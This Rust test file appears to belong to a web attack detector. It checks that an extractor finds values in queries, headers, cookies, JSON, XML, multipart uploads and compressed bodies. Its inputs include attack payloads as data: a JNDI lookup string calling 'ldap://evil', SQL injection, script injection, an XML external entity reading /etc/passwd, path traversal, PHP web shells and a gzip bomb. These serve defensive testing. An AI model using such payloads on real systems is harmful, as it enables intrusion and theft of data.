//! Where the extractor finds what, format by format.

use crate::support::Sample;
use weir_features::{
    Extractor, Location, MAX_FIELDS, MAX_VALUE, Marks, Scratch, WINDOW, WINDOW_STRIDE,
};

#[test]
fn query_pairs_keep_their_order_and_duplicates() {
    let sample = Sample::get("/list?b=1&a=2&b=3&b=1&flag");
    // Repeated names are read joined as well.
    assert_eq!(
        sample.values(Location::QueryValue),
        ["1", "2", "3", "1,3,1"]
    );
    assert_eq!(sample.values(Location::QueryKey), ["b", "a", "flag"]);
    assert!(sample.finds(Location::QueryValue, "b", "3"));
}

#[test]
fn paths_are_decoded_and_normalised_but_keep_their_dots() {
    assert_eq!(
        Sample::get("/a//b/./c%5c..%2f..%2fd").values(Location::Path),
        ["/a/b/c/../../d"]
    );
    assert_eq!(
        Sample::get("http://other.example/x?y=z").values(Location::Path),
        ["/x"]
    );
    let encoded = Sample::get("/file/Li4vLi4vZXRjL3Bhc3N3ZA==/view");
    assert!(encoded.finds(Location::Path, "", "../../etc/passwd"));
    assert!(Sample::get("http://other.example/x").finds(
        Location::Header,
        ":authority",
        "other.example"
    ));
}

#[test]
fn headers_cookies_referer_and_agent_have_their_places() {
    let sample = Sample::get("/")
        .header("X-Api-Version", "${jndi:ldap://evil/a}")
        .header(
            "Cookie",
            "sid=abc; prefs=%7B%22theme%22%3A%22dark%22%7D; bad'name=1",
        )
        .header("Referer", "https://example.org/search?q=a%27b")
        .header("User-Agent", "curl/8.0");
    assert!(sample.finds(Location::Header, "x-api-version", "${jndi:ldap://evil/a}"));
    assert!(sample.finds(Location::Cookie, "sid", "abc"));
    assert!(sample.finds(Location::Cookie, "prefs.theme", "dark"));
    assert!(sample.finds(Location::Cookie, "", "bad'name"));
    assert!(sample.finds(Location::Referer, "", "https://example.org/search"));
    assert!(sample.finds(Location::Referer, "q", "a'b"));
    assert!(sample.finds(Location::UserAgent, "", "curl/8.0"));
}

#[test]
fn a_sites_own_origin_says_nothing() {
    let local = Sample::get("/")
        .header("Host", "127.0.0.1:8080")
        .header("Referer", "http://127.0.0.1:8080/cart?x=1")
        .header("Origin", "http://127.0.0.1:8080");
    assert_eq!(local.values(Location::Referer), ["/cart", "1"]);
    assert_eq!(local.values(Location::Header), ["127.0.0.1:8080"]);
    for other in [
        "http://127.0.0.1:80800/x",
        "http://127.0.0.1:8080@evil/",
        "ftp://127.0.0.1:8080/",
    ] {
        let sample = Sample::get("/")
            .header("Host", "127.0.0.1:8080")
            .header("Referer", other);
        assert_eq!(sample.values(Location::Referer), [other]);
    }
}

#[test]
fn forms_are_walked() {
    let sample = Sample::post(
        "application/x-www-form-urlencoded",
        "name=O%27Brien&note=two+words&items[0]=x",
    );
    assert!(sample.finds(Location::BodyValue, "name", "O'Brien"));
    assert!(sample.finds(Location::BodyValue, "note", "two words"));
    assert!(sample.finds(Location::BodyKey, "", "items[0]"));
}

#[test]
fn json_paths_name_every_leaf() {
    let body = br#"{"user":{"name":"anna","tags":["a","b<c"],"age":42},"ok":true,"user":{"name":"x' or 1=1--"}}"#;
    let sample = Sample::post("application/json", &body[..]);
    assert!(sample.finds(Location::Json, "user.name", "anna"));
    assert!(sample.finds(Location::Json, "user.tags[]", "b<c"));
    assert!(sample.finds(Location::Json, "user.age", "42"));
    // A duplicate key hides nothing.
    assert!(sample.finds(Location::Json, "user.name", "x' or 1=1--"));
    assert!(sample.finds(Location::BodyKey, "", "tags"));
}

#[test]
fn lenient_json_and_its_escapes_are_read() {
    let body = "/* c */ {'a': 1e400, b: \"\\u003cscript\\u003e\", \"c\": \"line\\nbreak \\\"q\\\"\",} [\"second text\"]";
    let sample = Sample::post("application/json", body);
    assert!(sample.finds(Location::Json, "a", "1e400"));
    assert!(sample.finds(Location::Json, "b", "<script>"));
    assert!(sample.finds(Location::Json, "c", "line\nbreak \"q\""));
    assert!(sample.finds(Location::Json, "[]", "second text"));
}

#[test]
fn what_breaks_off_is_scored_as_raw_text() {
    let sample = Sample::post("application/json", r#"{"a":"b", <script>alert(1)</script>"#);
    assert!(sample.finds(Location::Json, "a", "b"));
    assert!(
        sample
            .values(Location::RawBody)
            .iter()
            .any(|rest| rest.contains("<script>alert(1)"))
    );
    let mut scratch = Scratch::default();
    sample.with_view(|request| {
        assert!(
            Extractor::shared()
                .extract(request, &mut scratch)
                .overflow()
                .unparsed
        );
    });
}

#[test]
fn template_braces_are_no_json() {
    let sample = Sample::get("/?name=%7B%7B7*7%7D%7D");
    assert!(sample.finds(Location::QueryValue, "name", "{{7*7}}"));
}

#[test]
fn multipart_parts_filenames_and_contents_are_found() {
    let body = "--b1\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello there\r\n\
                --b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../x.php\"\r\nContent-Type: image/png\r\n\r\n\
                <?php system('id'); ?>\r\n--b1--\r\n";
    for content_type in [
        "multipart/form-data; boundary=b1",
        "multipart/form-data",
        "text/plain",
    ] {
        let sample = Sample::post(content_type, body);
        assert!(
            sample.finds(Location::BodyValue, "title", "hello there"),
            "{content_type}"
        );
        assert!(
            sample.finds(Location::BodyValue, "filename", "../../x.php"),
            "{content_type}"
        );
        assert!(
            sample.finds(Location::RawBody, "file", "<?php system('id'); ?>"),
            "{content_type}"
        );
    }
}

#[test]
fn xml_elements_attributes_and_document_types_are_found() {
    let body = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\
                <r id=\"1' or '1'='1\"><n>text &amp; more</n><c><![CDATA[<b>]]></c></r>";
    let sample = Sample::post("text/xml", body);
    assert!(
        sample
            .values(Location::Xml)
            .iter()
            .any(|value| value.contains("<!ENTITY x SYSTEM"))
    );
    assert!(sample.finds(Location::Xml, "id", "1' or '1'='1"));
    assert!(sample.finds(Location::Xml, "c", "<b>"));
    assert!(sample.finds(Location::BodyKey, "", "n"));
}

#[test]
fn graphql_strings_are_values() {
    let sample = Sample::post(
        "application/graphql",
        "query { user(id: \"1' or '1'='1\") { name } }",
    );
    assert!(sample.finds(Location::Json, "query", "1' or '1'='1"));
    let in_json = Sample::post(
        "application/json",
        r#"{"query":"query { user(id: \"<svg onload=x>\") { name } }"}"#,
    );
    assert!(in_json.finds(Location::Json, "query", "<svg onload=x>"));
}

#[test]
fn values_inside_values_are_entered() {
    // A JSON Web Token, base64, a URL with a query, a form, and JSON inside base64 inside JSON.
    let token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiInIG9yIDEifQ.c2ln";
    assert!(Sample::get("/").header("Authorization", token).finds(
        Location::Header,
        "authorization.sub",
        "' or 1"
    ));
    let base64 = Sample::get("/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
    assert!(base64.finds(Location::QueryValue, "q", "<script>alert(1)</script>"));
    // The same between two fields of a binary message: the fields are told apart, their tags are no text.
    let message = Sample::get(
        "/?q=CiRhIGhvdXNlIGJ5IHRoZSBzZWEgaW4gdGhlIG5vcnRoLCByZWQSGTxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4YAg==",
    );
    assert!(message.finds(
        Location::QueryValue,
        "q",
        "$a house by the sea in the north, red <script>alert(1)</script> ",
    ));
    assert!(
        base64
            .fields()
            .iter()
            .any(|field| field.layers == 1 && field.marks.contains(Marks::NESTED))
    );
    let url = Sample::get("/go?to=https%3A%2F%2Fexample.org%2Fp%3Fx%3D%2526lt%253Bi");
    assert!(url.finds(Location::QueryValue, "to", "https://example.org/p"));
    assert!(url.finds(Location::QueryValue, "to.x", "<i"));
    let form = Sample::post(
        "application/json",
        r#"{"f":"alpha=1&beta=two&gamma=%27three"}"#,
    );
    assert!(form.finds(Location::Json, "f.gamma", "'three"));
    let deep = Sample::post("application/json", r#"{"a":"eyJiIjoieyJjIjoiZCcifSJ9"}"#);
    assert!(deep.fields().iter().any(|field| field.value.contains('\'')));
}

#[test]
fn compressed_bodies_are_inflated() {
    use std::io::Write as _;
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(b"a=%3Cscript%3E").unwrap();
    let sample = Sample::post("application/x-www-form-urlencoded", gzip.finish().unwrap())
        .header("Content-Encoding", "gzip");
    assert!(sample.finds(Location::BodyValue, "a", "<script>"));
    let lying =
        Sample::post("text/plain", "not gzip at all <script>").header("Content-Encoding", "gzip");
    assert!(
        lying
            .values(Location::RawBody)
            .iter()
            .any(|value| value.contains("<script>"))
    );
}

#[test]
fn a_decompression_bomb_stops_at_the_limit() {
    use std::io::Write as _;
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        gzip.write_all(&[b'a'; 1 << 20]).unwrap();
    }
    let sample =
        Sample::post("text/plain", gzip.finish().unwrap()).header("Content-Encoding", "gzip");
    let mut scratch = Scratch::default();
    sample.with_view(|request| {
        let fields = Extractor::shared().extract(request, &mut scratch);
        assert!(fields.overflow().inflated);
        assert!(
            fields.len() < 16,
            "equal windows are one field: {}",
            fields.len()
        );
    });
}

#[test]
fn long_values_become_overlapping_windows_and_padding_hides_nothing() {
    let mut value = "a".repeat(40_000);
    value.push_str("' union select password from users--");
    let sample = Sample::post("application/json", format!("{{\"a\":\"{value}\"}}"));
    let windows: Vec<_> = sample
        .fields()
        .into_iter()
        .filter(|field| field.marks.contains(Marks::WINDOW))
        .collect();
    assert!(windows.iter().all(|field| field.value.len() <= WINDOW));
    assert!(
        windows
            .iter()
            .any(|field| field.value.contains("union select password from users--"))
    );
    let exact = Sample::get(format!("/?q={}", "b".repeat(MAX_VALUE)));
    assert!(
        !exact
            .fields()
            .iter()
            .any(|field| field.marks.contains(Marks::WINDOW))
    );
    const { assert!(WINDOW_STRIDE < WINDOW) };
}

#[test]
fn fields_beyond_the_limit_are_scored_as_windows() {
    let mut body: String = (0..5_000)
        .map(|index| format!("\"k{index}\":\"v{index}\","))
        .collect();
    body.push_str("\"last\":\"<script>alert(1)</script>\"");
    let sample = Sample::post("application/json", format!("{{{body}}}"));
    let fields = sample.fields();
    let parsed = fields
        .iter()
        .filter(|field| !field.marks.contains(Marks::WINDOW))
        .count();
    assert!(parsed <= MAX_FIELDS);
    assert!(
        fields
            .iter()
            .any(|field| field.value.contains("<script>alert(1)</script>"))
    );
}

#[test]
fn nesting_is_bounded_and_what_lies_deeper_is_still_seen() {
    let deep = format!("{}\"<script>\"{}", "[".repeat(100_000), "]".repeat(100_000));
    let sample = Sample::post("application/json", deep);
    assert!(
        sample
            .values(Location::RawBody)
            .iter()
            .any(|value| value.contains("<script>"))
    );
    let mut wrapped = "<script>".to_owned();
    for _ in 0..12 {
        wrapped = serde_json::to_string(&serde_json::json!({ "a": wrapped })).unwrap();
    }
    let nested = Sample::post("application/json", wrapped);
    assert!(
        nested
            .fields()
            .iter()
            .any(|field| field.value.contains("<script>"))
    );
}

#[test]
fn odd_bytes_make_no_file_of_what_an_application_parses() {
    let odd = "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}";
    let form = Sample::post(
        "application/x-www-form-urlencoded",
        format!("a={odd}&id=1' or 1=1").as_bytes(),
    );
    assert!(form.finds(Location::BodyValue, "id", "1' or 1=1"));
    let unsaid = Sample::post(
        "application/octet-stream",
        format!("{{\"a\":\"{odd}\",\"id\":\"1' or 1=1\"}}").as_bytes(),
    );
    assert!(
        unsaid
            .fields()
            .iter()
            .all(|field| !field.marks.contains(Marks::BINARY))
    );
    let part = format!(
        "--b\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n{odd}' or 1=1\r\n--b--\r\n"
    );
    let part = Sample::post("multipart/form-data; boundary=b", part.as_bytes());
    assert!(
        part.fields()
            .iter()
            .any(|field| field.location == Location::BodyValue
                && !field.marks.contains(Marks::BINARY))
    );
    let document = Sample::post(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        [b"PK\x03\x04".as_slice(), &[0xee; 200]].concat(),
    );
    assert!(
        document
            .fields()
            .iter()
            .any(|field| field.marks.contains(Marks::BINARY))
    );
}

#[test]
fn binary_bodies_are_windows_of_their_bytes() {
    let mut body: Vec<u8> = (0..3000u32)
        .map(|byte| (byte.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    body.extend_from_slice(b"<?php system($_GET['c']); ?>");
    let fields = Sample::post("image/png", body).fields();
    assert!(
        fields
            .iter()
            .any(|field| field.marks.contains(Marks::BINARY) && field.value.contains("<?php"))
    );
}
